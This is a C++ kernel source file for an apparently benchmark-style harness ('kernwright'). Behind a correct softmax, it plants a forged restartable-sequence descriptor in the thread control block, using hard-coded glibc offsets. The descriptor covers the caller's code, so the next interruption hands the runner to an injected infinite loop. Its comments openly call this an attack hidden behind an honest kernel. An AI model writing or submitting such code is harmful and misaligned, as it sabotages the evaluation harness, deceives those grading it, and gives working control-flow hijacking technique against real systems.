// SPDX-License-Identifier: Apache-2.0
// Declares the whole runner one restartable sequence of its own, whose abort handler is a loop of the
// kernel's: the next interruption would hand control over. The area is not registered.
#include "kernwright.h"

#include <cmath>
#include <cstdint>

namespace {

// What an honest kernel does; the attack hides behind it.
void softmax(const float* x, float* y, std::int64_t rows, std::int64_t n) {
  for (std::int64_t r = 0; r < rows; ++r, x += n, y += n) {
    float top = x[0], total = 0;
    for (std::int64_t i = 1; i < n; ++i)
      top = x[i] > top ? x[i] : top;
    for (std::int64_t i = 0; i < n; ++i)
      total += y[i] = expf(x[i] - top);
    for (std::int64_t i = 0; i < n; ++i)
      y[i] /= total;
  }
}

} // namespace

namespace {
struct alignas(32) Sequence {
  std::uint32_t version, flags;
  std::uint64_t start, length, abort;
};
} // namespace
extern "C" __attribute__((visibility("hidden"))) void taken_over();
asm(".long 0x53053053\ntaken_over: pause\n\tjmp taken_over\n"); // the signature that the kernel asks for

extern "C" int kernel(const float* x, float* y, std::int64_t rows, std::int64_t n) {
  softmax(x, y, rows, n);
  auto at = reinterpret_cast<std::uintptr_t>(__builtin_return_address(0)) & ~std::uintptr_t{4095};
  auto* sequence = reinterpret_cast<Sequence*>(static_cast<char*>(kw_workspace(1 << 21)) + (1 << 20) + 64);
  *sequence = {0, 0, at - (1 << 16), 1 << 18, reinterpret_cast<std::uintptr_t>(&taken_over)};
  char* tcb;
  asm volatile("mov %%fs:0, %0" : "=r"(tcb));
  constexpr int offsets[] = {0x9a0, 0x980, 0x960}; // of glibc 2.35 to 2.37
  for (const int offset : offsets)
    *reinterpret_cast<Sequence**>(tcb + offset + 8) = sequence;
  return 0;
}
